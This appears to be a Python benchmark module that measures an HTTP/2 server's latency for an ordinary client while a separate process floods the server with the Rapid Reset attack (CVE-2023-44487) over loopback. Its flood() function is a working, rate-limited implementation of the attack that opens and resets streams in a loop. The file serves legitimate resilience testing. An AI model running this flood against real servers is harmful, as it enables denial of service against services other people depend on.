"""
The ``rapid-reset`` scenario (docs/performance.rst): an ordinary client's
latency on an HTTP/2 server while another client floods it with Rapid
Reset (CVE-2023-44487: open a stream, reset it at once, again and again,
reconnecting whenever the server closes the connection).

The flooder is its own process (``python -m bench.rapidreset flood ...``),
so that it shares no interpreter with the bench: the ``h2`` library over a
TLS socket, bound to another loopback address (:data:`FLOOD_SOURCE`), so
that a server's per-address limits tell it from the ordinary client.  It
asks for :data:`FLOOD_PATH`, a handler that sleeps a second, as the issue
that found the attack did, at :data:`FLOOD_RATE` streams a second at most
(wptserve starts a thread per stream: an unbounded flood would exhaust the
machine, not measure the server).  Meanwhile h2load (the ordinary client,
from 127.0.0.1) asks for the tiny handler on the same server, and, for our
server, wrk asks for it on the https port of the same process.
"""

from __future__ import annotations

import argparse
import json
import select
import socket
import ssl
import subprocess
import sys
import time
from dataclasses import dataclass
from pathlib import Path

# ``python -m bench.rapidreset`` from the checkout, or imported by bench/run.py.
sys.path.insert(0, str(Path(__file__).resolve().parent.parent))

from bench.h2load import runH2load  # noqa: E402
from bench.servers import ServerProcess  # noqa: E402
from bench.wrk import WrkResult, runWrk  # noqa: E402

#: The loopback address the flood comes from.
FLOOD_SOURCE = "127.0.0.2"

#: The handler the flood asks for (bench/docroot.py's: it sleeps a second).
FLOOD_PATH = "/sleep1.py"

#: The ordinary client's path, connections and seconds per measurement.
ORDINARY_PATH = "/tiny.py"
ORDINARY_CONNECTIONS = 10

#: Streams opened and reset a second, at most, and in one write.
FLOOD_RATE = 2000
FLOOD_BATCH = 100


@dataclass
class FloodResult:
    """What the flooder did: streams opened and reset, connections, GOAWAYs seen by error code."""

    streams: int
    connections: int
    goaways: dict[str, int]


def flood(port: int, path: str, seconds: float, source: str = FLOOD_SOURCE, rate: int = FLOOD_RATE) -> FloodResult:
    """
    Rapid Reset against ``https://127.0.0.1:port`` for ``seconds``:
    HEADERS and RST_STREAM pairs in writes of :data:`FLOOD_BATCH`, at most
    ``rate`` streams a second, reconnecting whenever the connection ends.
    Runs in the flooder process.
    """
    import h2.config
    import h2.connection
    import h2.events

    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    headers = [(":method", "GET"), (":scheme", "https"), (":authority", f"127.0.0.1:{port}"), (":path", path)]
    result = FloodResult(0, 0, {})
    end = time.monotonic() + seconds
    started = time.monotonic()
    while time.monotonic() < end:
        try:
            raw = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            raw.bind((source, 0))
            raw.settimeout(5)
            raw.connect(("127.0.0.1", port))
            sock = context.wrap_socket(raw, server_hostname="localhost")
        except OSError:
            time.sleep(0.05)
            continue
        result.connections += 1
        conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
        conn.initiate_connection()
        try:
            sock.sendall(conn.data_to_send())
            open_ = True
            while open_ and time.monotonic() < end:
                # Keep to the rate over the whole run.
                due = started + result.streams / rate
                if due > time.monotonic():
                    time.sleep(due - time.monotonic())
                for _ in range(FLOOD_BATCH):
                    streamID = conn.get_next_available_stream_id()
                    conn.send_headers(streamID, headers, end_stream=True)
                    conn.reset_stream(streamID, error_code=8)
                sock.sendall(conn.data_to_send())
                result.streams += FLOOD_BATCH
                while select.select([sock], [], [], 0)[0]:
                    data = sock.recv(65536)
                    if not data:
                        open_ = False
                        break
                    for event in conn.receive_data(data):
                        if isinstance(event, h2.events.ConnectionTerminated):
                            code = str(int(event.error_code or 0))
                            result.goaways[code] = result.goaways.get(code, 0) + 1
                            open_ = False
                    sock.sendall(conn.data_to_send())
        except (OSError, h2.exceptions.ProtocolError):
            pass
        finally:
            sock.close()
    return result


@dataclass
class RapidResetResult:
    """
    One server under the flood: the ordinary client's figures per port
    (``h2``, and, for ours, ``http`` and ``https`` of the same process),
    the flooder's, and the server's CPU seconds meanwhile.
    """

    server: str
    ordinary: dict[str, WrkResult]
    flood: FloodResult
    cpuSeconds: float


def measureRapidReset(server: ServerProcess, duration: float, logPath: Path) -> RapidResetResult:
    """
    Flood ``server``'s h2 port while h2load, then wrk on each of its other
    ports (http, https), measure the ordinary client for ``duration``
    seconds each.  Bench main thread.
    """
    others = [scheme for scheme in ("http", "https") if scheme in server.ports]
    floodSeconds = duration * (1 + len(others)) + 2
    before = server.cpu()
    flooder = startFlood(server.ports["h2"], floodSeconds, logPath)
    ordinary: dict[str, WrkResult] = {}
    try:
        time.sleep(1)  # the flood is under way before the ordinary client starts
        ordinary["h2"], _ = runH2load(server.url(ORDINARY_PATH, "h2"), connections=ORDINARY_CONNECTIONS, duration=duration)
        for scheme in others:
            ordinary[scheme], _ = runWrk(server.url(ORDINARY_PATH, scheme), connections=ORDINARY_CONNECTIONS, duration=duration)
        floodResult = floodResultOf(flooder)
    finally:
        if flooder.poll() is None:
            flooder.kill()
            flooder.wait()
    return RapidResetResult(server.name, ordinary, floodResult, server.cpu() - before)


def startFlood(port: int, seconds: float, logPath: Path) -> subprocess.Popen[bytes]:
    """Start the flooder process against ``port`` (bench main thread); its JSON result goes to stdout."""
    return subprocess.Popen(
        [sys.executable, "-m", "bench.rapidreset", "flood", str(port), FLOOD_PATH, str(seconds)],
        stdout=subprocess.PIPE,
        stderr=open(logPath, "ab"),  # noqa: SIM115 (the child holds it; closed when it exits)
        cwd=str(Path(__file__).resolve().parent.parent),
    )


def floodResultOf(process: subprocess.Popen[bytes]) -> FloodResult:
    """Wait for the flooder and read its result (bench main thread)."""
    out, _ = process.communicate(timeout=120)
    fields = json.loads(out.decode() or "{}")
    return FloodResult(fields.get("streams", 0), fields.get("connections", 0), fields.get("goaways", {}))


def main(argv: list[str] | None = None) -> int:
    """``python -m bench.rapidreset flood PORT PATH SECONDS``: flood and print the result as JSON."""
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("command", choices=["flood"])
    parser.add_argument("port", type=int)
    parser.add_argument("path")
    parser.add_argument("seconds", type=float)
    parser.add_argument("--rate", type=int, default=FLOOD_RATE)
    args = parser.parse_args(argv)
    result = flood(args.port, args.path, args.seconds, rate=args.rate)
    print(json.dumps({"streams": result.streams, "connections": result.connections, "goaways": result.goaways}))
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
